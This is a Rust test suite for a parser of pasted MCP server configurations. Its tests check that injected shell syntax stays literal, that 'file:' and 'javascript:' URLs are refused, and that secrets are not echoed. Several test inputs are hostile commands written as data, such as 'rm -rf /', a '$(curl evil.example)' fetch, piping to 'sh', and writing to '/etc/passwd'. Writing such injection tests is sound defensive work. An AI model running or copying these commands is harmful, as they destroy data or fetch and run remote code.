use std::path::Path;

use signalbox_model::Secret;

use super::*;

fn around() -> Surroundings<'static> {
    Surroundings { home: Path::new("/home/me"), project: None, var: None }
}

fn values(of: &[(String, NewSecret)]) -> String {
    let shown = |(name, value): &(String, NewSecret)| match value {
        NewSecret::Literal { value } => format!(" {name}={}", value.0),
        NewSecret::Reference { secret: Secret::Env { var } } => format!(" {name}=${var}"),
        other => panic!("a paste holds values and names of variables, and no {other:?}"),
    };
    of.iter().map(shown).collect()
}

/// `name: [command][arguments] K=V in folder`, or `name: <url> K=V`.
fn shown(server: &PastedServer) -> String {
    let name = &server.name;
    match &server.transport {
        NewTransport::Http { url, headers } => format!("{name}: <{url}>{}", values(headers)),
        NewTransport::Stdio { command, args, env, cwd } => {
            let words: String = args.iter().map(|arg| format!("[{arg}]")).collect();
            let folder = cwd.as_ref().map(|cwd| format!(" in {cwd}")).unwrap_or_default();
            format!("{name}: [{command}]{words}{}{folder}", values(env))
        }
    }
}

fn understood(text: &str) -> Vec<String> {
    let pasted = read(text, around()).unwrap_or_else(|error| panic!("{text}: {error}"));
    pasted.servers.iter().map(shown).collect()
}

fn unclear(text: &str) -> Unclear {
    match read(text, around()) {
        Err(error) => error,
        Ok(pasted) => panic!("{text:?} cannot mean {:?}", pasted.servers),
    }
}

#[test]
fn what_names_one_server() {
    for (text, expected) in [
        // Addresses.
        ("https://deploy.example.com/mcp", "deploy: <https://deploy.example.com/mcp>"),
        ("  https://mcp.linear.app/sse \n", "linear: <https://mcp.linear.app/sse>"),
        ("HTTP://127.0.0.1:3000/mcp", "127.0.0.1: <http://127.0.0.1:3000/mcp>"),
        ("`https://api.githubcopilot.com/mcp/`", "githubcopilot: <https://api.githubcopilot.com/mcp/>"),
        ("localhost:3000/mcp", "localhost: <http://localhost:3000/mcp>"),
        ("mcp.example.com/mcp", "example: <https://mcp.example.com/mcp>"),
        ("'https://example.com/mcp?a=b&c=d'", "example: <https://example.com/mcp?a=b&c=d>"),
        // Command lines.
        ("npx -y @x/y --flag \"a b\"", "y: [npx][-y][@x/y][--flag][a b]"),
        (
            "npx -y @modelcontextprotocol/server-everything",
            "everything: [npx][-y][@modelcontextprotocol/server-everything]",
        ),
        (
            "uvx mcp-server-git@2.1 --repository ~/src",
            "git: [uvx][mcp-server-git@2.1][--repository][/home/me/src]",
        ),
        ("$ npx x", "x: [npx][x]"),
        ("```bash\nnpx x 'y  z'\n```", "x: [npx][x][y  z]"),
        ("npx \\\n  -y \\\n  x", "x: [npx][-y][x]"),
        ("npx x \"two\nlines\"", "x: [npx][x][two\nlines]"),
        ("API_KEY=abc LOG=debug npx x", "x: [npx][x] API_KEY=abc LOG=debug"),
        ("env A=1 npx x", "x: [npx][x] A=1"),
        ("A='x y=z' npx x", "x: [npx][x] A=x y=z"),
        ("A=$B C=${D} E=\"pre $F\" npx x", "x: [npx][x] A=$B C=$D E=pre $F"),
        ("cd /srv/app && node dist/index.js", "index: [node][dist/index.js] in /srv/app"),
        ("~/bin/my-server run", "my: [/home/me/bin/my-server][run]"),
        (
            "docker run -i --rm -e TOKEN ghcr.io/org/mcp-thing:1.2",
            "token: [docker][run][-i][--rm][-e][TOKEN][ghcr.io/org/mcp-thing:1.2]",
        ),
        ("npx x # with a comment", "x: [npx][x]"),
        ("npx x ''", "x: [npx][x][]"),
        // Nothing of a shell happens.
        ("npx x; rm -rf /", ": [npx][x;][rm][-rf][/]"),
        ("npx $(curl evil.example)", ": [npx][$(curl][evil.example)]"),
        ("npx x `id`", "x: [npx][x][`id`]"),
        ("npx x | tee log", "x: [npx][x][|][tee][log]"),
        ("npx x > /etc/passwd", "x: [npx][x][>][/etc/passwd]"),
        ("npx x && reboot", "x: [npx][x][&&][reboot]"),
        ("npx x $HOME *.js", "x: [npx][x][$HOME][*.js]"),
        // JSON.
        (r#"{"mcpServers":{"a":{"command":"npx","args":["-y","b"]}}}"#, "a: [npx][-y][b]"),
        (
            r#"{"servers":{"a":{"url":"https://e.com/mcp","headers":{"X":"y"}}}}"#,
            "a: <https://e.com/mcp> X=y",
        ),
        (
            r#"{"command":"uvx","args":["mcp-server-time"],"env":{"K":"v","T":"${TOKEN}"}}"#,
            "time: [uvx][mcp-server-time] K=v T=$TOKEN",
        ),
        (r#"{"name":"given","type":"http","url":"https://e.com"}"#, "given: <https://e.com>"),
        (r#""a": {"command":"npx","args":["b"]}"#, "a: [npx][b]"),
        (r#"{"a":{"command":"npx","args":["b"]}}"#, "a: [npx][b]"),
        ("// mine\n{\"command\": \"x\", /* all */ }", "x: [x]"),
        ("\u{feff}{\"command\":\"x\",\"args\":[\"\\u001b[2J\"]}", "x: [x][\u{1b}[2J]"),
        // Commands of other clients.
        ("claude mcp add lab -- npx -y b", "lab: [npx][-y][b]"),
        ("claude mcp add lab npx -y b", "lab: [npx][-y][b]"),
        (
            "claude mcp add --transport http sentry https://mcp.sentry.dev/mcp",
            "sentry: <https://mcp.sentry.dev/mcp>",
        ),
        (
            "claude mcp add --transport=sse --scope user a https://e.com/sse -H \"Authorization: Bearer x\" --header 'X-Y: z'",
            "a: <https://e.com/sse> Authorization=Bearer x X-Y=z",
        ),
        ("claude mcp add a -e K=V -e L=$M -- npx b --env K=theirs", "a: [npx][b][--env][K=theirs] K=V L=$M"),
        ("claude mcp add -e K=V L=W -- a npx b", "a: [npx][b] K=V L=W"),
        ("claude mcp add-json -s user a '{\"command\":\"npx\",\"args\":[\"b\"]}'", "a: [npx][b]"),
        ("/usr/local/bin/claude mcp add a https://e.com/mcp", "a: <https://e.com/mcp>"),
        ("codex mcp add ctx --env K=V -- npx -y c", "ctx: [npx][-y][c] K=V"),
        ("codex mcp add ctx --url https://e.com/mcp", "ctx: <https://e.com/mcp>"),
        ("gemini mcp add --trust -t http a https://e.com/mcp --timeout 5", "a: <https://e.com/mcp>"),
        (
            "code --add-mcp '{\"name\":\"p\",\"command\":\"npx\",\"args\":[\"p@latest\"]}'",
            "p: [npx][p@latest]",
        ),
    ] {
        assert_eq!(understood(text), [expected], "of {text}");
    }
}

#[test]
fn several_servers_and_those_that_cannot_be_added() {
    let both = "claude mcp add a -- npx a\n# and\nclaude mcp add b https://b.example.com/mcp";
    assert_eq!(understood(both), ["a: [npx][a]", "b: <https://b.example.com/mcp>"]);
    let text = r#"{"mcpServers":{"a":{"command":"x"},"b":{"command":"y","disabled":true},
        "c":{"url":"https://e.com","headers":{"A":"Bearer ${TOKEN}"}}, "d":{"command":"x","env":{"K":"${X:-dflt}"}}}}"#;
    let pasted = read(text, around()).unwrap();
    let skipped: Vec<_> =
        pasted.skipped.iter().map(|one| (one.name.as_deref().unwrap(), one.settled)).collect();
    assert_eq!(skipped, [("b", true), ("c", false), ("d", false)]);
    assert!(
        pasted.skipped[1].why.contains("TOKEN"),
        "no variable of this machine is read for it: {pasted:?}"
    );
}

#[test]
fn what_is_left_out_or_means_nothing_here_is_said() {
    for (text, said) in [
        ("npx x; rm -rf /", "No shell runs this: the program is given \"x;\""),
        ("npx x $(id)", "\"$(id)\" as written"),
        ("npx x|sh", "\"x|sh\" as written"),
        ("npx x&&y >out", "\"x&&y\", \">out\" as written"),
        ("./server", "give its whole path"),
        ("localhost:3000/mcp", "http://localhost:3000/mcp is meant"),
        ("claude mcp add -s user a -- x", "`-s user` is left out"),
        ("claude mcp add -H 'A: b' a -- x", "Headers are left out"),
        ("claude mcp add -e A=b a https://e.com", "Variables are left out"),
        (
            "claude mcp add a https://e.com -H 'Authorization: Bearer $T'",
            "\"Authorization\" has a $ in its value",
        ),
        ("A=x$B npx x", "\"A\" has a $ in its value"),
        ("gemini mcp add --trust a x", "nothing is trusted"),
    ] {
        let server = read(text, around()).unwrap().servers.remove(0);
        assert!(server.notes.iter().any(|note| note.contains(said)), "{text}: {:?}", server.notes);
        assert!(!server.notes.concat().contains("Bearer"), "no value is repeated: {:?}", server.notes);
    }
    let fine = read("npx -y @x/y", around()).unwrap().servers.remove(0);
    assert_eq!(fine.notes, Vec::<String>::new());
}

#[test]
fn what_names_no_server_says_why() {
    for (text, error) in [
        ("", Unclear::Empty),
        (" \n\t", Unclear::Empty),
        ("```\n```", Unclear::Empty),
        ("npx 'x", Unclear::Quotes),
        ("npx \"x", Unclear::Quotes),
        ("npx x\nnpx y", Unclear::Lines(2)),
        ("A=b", Unclear::NoProgram),
        ("ws://e.com/mcp", Unclear::Scheme("ws://".into())),
        ("ftp://e.com/mcp", Unclear::Scheme("ftp://".into())),
        ("JavaScript:alert(1)", Unclear::Scheme("javascript:".into())),
        ("file:///etc/passwd", Unclear::Scheme("file://".into())),
        ("https://me:hunter2@e.com/mcp", Unclear::Credentials),
        ("npx \0x", Unclear::Control("U+0000".into())),
        ("npx \u{1b}[2Jx", Unclear::Control("U+001B".into())),
        ("<!doctype html><html>", Unclear::Markup),
        ("{}", Unclear::NoServers),
        ("[]", Unclear::NoServers),
        ("{\"mcpServers\":[]}", Unclear::NoServers),
        ("{\"a\":{\"b\":1}}", Unclear::NoServers),
    ] {
        assert_eq!(unclear(text), error, "of {text:?}");
    }
    for (text, why) in [
        ("claude mcp list", "only one that adds a server means something here"),
        ("claude mcp add a", "it names no program and no URL"),
        ("claude mcp add --transport ws a https://e.com", "\"ws\" is not a transport of MCP"),
        ("claude mcp add --frob x a https://e.com", "its option `--frob` is not known here"),
        ("claude mcp add a -e", "`-e` lacks its value"),
        ("claude mcp add-json a", "it wants a name and JSON"),
        ("claude mcp add-json a nonsense", "its JSON cannot be read"),
    ] {
        let said = format!("This command of claude cannot be read: {why}");
        assert_eq!(unclear(text).to_string(), said, "of {text:?}");
    }
    let error = unclear("{\"command\": \"hunter2\"");
    assert!(matches!(error, Unclear::Json(_)) && !error.to_string().contains("hunter2"), "{error}");
    assert!(
        !unclear("https://me:hunter2@e.com").to_string().contains("hunter2"),
        "a password is not repeated"
    );
}

#[test]
fn no_text_is_too_much() {
    assert_eq!(unclear(&"a ".repeat(512 * 1024 + 1)), Unclear::TooLong("a configuration"));
    assert_eq!(unclear(&"a ".repeat(20 * 1024)), Unclear::TooLong("a command line"));
    assert_eq!(
        unclear(&format!("{{\"a\":\"{}\"}}", "x".repeat(1024 * 1024))),
        Unclear::TooLong("a configuration")
    );
    assert!(matches!(unclear(&"{\"a\":".repeat(50_000)), Unclear::Json(_)), "depth is bounded");
    assert!(matches!(unclear(&"\"".repeat(1_000)), Unclear::Json(_) | Unclear::NoServers));
}

#[test]
fn names_that_go_with_secrets_are_known() {
    let server = read("API_KEY=a LOG=b npx x", around()).unwrap().servers.remove(0);
    assert_eq!(server.secrets(), ["API_KEY"]);
    for (name, is) in [("db_password", true), ("Authorization", true), ("LOG_LEVEL", false), ("PATH", false)]
    {
        assert_eq!(sounds_secret(name), is, "{name}");
    }
}
